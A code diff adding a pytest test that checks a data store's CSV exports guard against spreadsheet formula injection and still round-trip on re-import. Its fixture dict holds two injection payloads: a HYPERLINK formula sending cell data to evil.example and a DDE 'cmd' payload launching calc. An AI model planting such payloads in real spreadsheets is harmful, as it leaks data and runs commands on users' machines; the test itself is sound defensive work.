@@ -2,20 +2,22 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 from pathlib import Path
 
 import pytest
 import shapely
 from import_builders import TODAY, seed_all
-from sqlalchemy import delete
+from sqlalchemy import delete, select
 from sqlalchemy.orm import Session, sessionmaker
 
 from fixtures.output import IMPORT_ORDER
 from store.db import unit_of_work
 from store.exporters import EXPORT_KINDS, export_areas_geojson, export_csv
 from store.importers import import_file
-from store.models import Base
+from store.models import Base, HousingType, Organisation
 from store.repository import area_geometries, count_by_kind, load_round
 
 Factory = sessionmaker[Session]
@@ -135,3 +137,45 @@ def test_demo_region_round_trip(session_factory: Factory, tmp_path: Path) -> Non
     _empty(session_factory)
     _import_all(session_factory, tmp_path / "first")
     assert _export_all(session_factory, tmp_path / "second") == first
+
+
+FORMULAS = {
+    "CORP1": '=HYPERLINK("http://evil.example/?"&A1;"klik")',
+    "CORP2": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_formula_text_is_guarded_and_round_trips(session_factory: Factory, tmp_path: Path) -> None:
+    """Issue 13 item 6: text that a spreadsheet runs is written with a leading quote; the
+    importers take it off again, so the backup still round-trips byte for byte."""
+    with unit_of_work(session_factory) as session:
+        seed_all(session, tmp_path)
+        for code, name in FORMULAS.items():
+            org = session.scalars(select(Organisation).where(Organisation.code == code)).one()
+            org.name = name
+        # text that already starts with a quote before a formula character, and a tab
+        youth_type = session.scalars(select(HousingType).order_by(HousingType.code)).first()
+        assert youth_type is not None
+        youth_type.description = "'-1+2"
+        last = session.scalars(select(HousingType).order_by(HousingType.code.desc())).first()
+        assert last is not None and last is not youth_type
+        last.description = "\t=1+1"
+    first = _export_all(session_factory, tmp_path / "first")
+    rows = list(csv.reader(io.StringIO(first["organisations.csv"]), delimiter=";"))
+    names = {r[0]: r[1] for r in rows[1:]}
+    for code, name in FORMULAS.items():
+        assert names[code] == "'" + name
+    types = list(csv.reader(io.StringIO(first["types.csv"]), delimiter=";"))
+    descriptions = {r[-1] for r in types[1:]}
+    assert "''-1+2" in descriptions and "'\t=1+1" in descriptions
+    # numbers that start with + or - are not text and stay as they are
+    assert all(not cell.startswith("'") for r in types[1:] for cell in r[:-1])
+
+    _empty(session_factory)
+    _import_all(session_factory, tmp_path / "first")
+    assert _export_all(session_factory, tmp_path / "second") == first
+    with session_factory() as session:
+        stored = {c: n for c, n in session.execute(select(Organisation.code, Organisation.name))}
+        assert {code: stored[code] for code in FORMULAS} == FORMULAS
+        descriptions = set(session.scalars(select(HousingType.description)))
+        assert {"'-1+2", "\t=1+1"} <= descriptions
